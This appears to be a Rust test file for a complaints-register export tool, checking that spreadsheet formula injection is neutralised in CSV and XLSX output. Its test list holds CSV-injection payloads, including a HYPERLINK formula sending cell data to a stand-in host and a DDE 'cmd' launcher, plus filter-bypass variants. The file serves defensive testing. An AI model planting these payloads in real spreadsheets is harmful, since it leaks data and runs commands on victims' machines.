//! What a spreadsheet would compute is text in every cell.

use super::*;

/// From OWASP's page on CSV injection, and what people get past naive filters with.
const FORMULAS: [&str; 19] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"klik\")",
    "+6281200000777",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\"=1+1",
    "'=1+1",
    "“=1+1",
    "＝1+1",
    "−1+1",
    "\u{feff}=1+1",
    "\u{2060}=1+1",
    "\u{202e}=1+1",
    "\u{a0}@SUM(1)",
    "|calc",
];

#[test]
fn whatever_begins_a_formula_is_marked_as_text() {
    for formula in FORMULAS {
        assert!(defused(formula).starts_with('\''), "{formula:?}");
        assert_eq!(as_written(&defused(formula)), formula);
    }
    for number in ["6301034101900001", "081200000777", "120000E5", "1e5"] {
        assert_eq!(defused(number), format!("'{number}"));
        assert_eq!(as_written(&defused(number)), number);
    }
    for plain in [
        "",
        "0",
        "Jembatan lapuk",
        "a=b",
        "2026-03-02",
        "12",
        "e5",
        "••••••••••••0001",
        "63.01.03/A/2026/0042",
        "'kutipan' warga; RT 4\nRT 5",
    ] {
        assert_eq!(defused(plain), plain);
        assert_eq!(as_written(plain), plain);
    }
}

/// Reads a line as Excel in Indonesian reads a CSV file: `;` parts cells, a comma does not, and a quotation mark counts only where a
/// cell begins with it.
fn cells_of_another_excel(line: &str) -> Vec<String> {
    line.split([';', '\r', '\n', '\t']).map(str::to_owned).collect()
}

#[test]
fn what_begins_a_cell_only_where_the_semicolon_parts_them_is_marked_too() {
    for (text, marked) in [
        ("rusak;=1+1", "rusak;'=1+1"),
        ("rusak; \"=1+1", "rusak;' \"=1+1"),
        ("Rusak:\n- jalan\n- jembatan", "Rusak:\n'- jalan\n'- jembatan"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
    ] {
        assert_eq!(defused(text), marked);
    }
    let row = ["63.01.03/A/2026/0042", "lapuk;=1+1", "a, \"b\";\n+1"].map(|cell| defused(cell).into_owned());
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(&row).unwrap();
    let line = String::from_utf8(csv.into_inner().unwrap()).unwrap();
    for cell in cells_of_another_excel(&line) {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
    }
}

proptest::proptest! {
    #[test]
    fn no_part_of_any_text_begins_a_formula_and_the_text_comes_back(text in "[-=+@|%;'\" a0-9eE\t\r\n＝\u{200b}]{0,12}") {
        let safe = defused(&text);
        for part in cells_of_another_excel(&safe) {
            let first = part.trim_start_matches([' ', '"', '\u{200b}']).chars().next();
            proptest::prop_assert!(!first.is_some_and(|c| "=+-@|%＝".contains(c)), "{safe:?}");
        }
        proptest::prop_assert_eq!(as_written(&safe), text.as_str());
    }
}

#[test]
fn what_was_exported_is_noted_without_what_was_searched_for() {
    let filter = Filter {
        office: Some("63.01.03".to_owned()),
        text: Some("Rahma".to_owned()),
        ..Filter::default()
    };
    assert_eq!(
        detail(Form::Csv, &filter, 3, None),
        "csv, all, office 63.01.03, search, 3 complaints, masked"
    );
    let stage = Filter {
        stage: Some(Stage::Entered),
        ..Filter::default()
    };
    assert_eq!(
        detail(Form::Xlsx, &stage, 12, Some("rapat bulanan")),
        "xlsx, entered, 12 complaints, with reporters: rapat bulanan"
    );
}

#[test]
fn the_ending_of_the_file_says_its_form_and_nothing_else_does() {
    assert!(form(Path::new("register.CSV")).is_ok_and(|form| form == Form::Csv));
    assert!(form(Path::new("register.xlsx")).is_ok_and(|form| form == Form::Xlsx));
    for other in ["register", "register.xls", "csv", "register.csv.txt"] {
        assert!(form(Path::new(other)).is_err(), "{other}");
    }
}
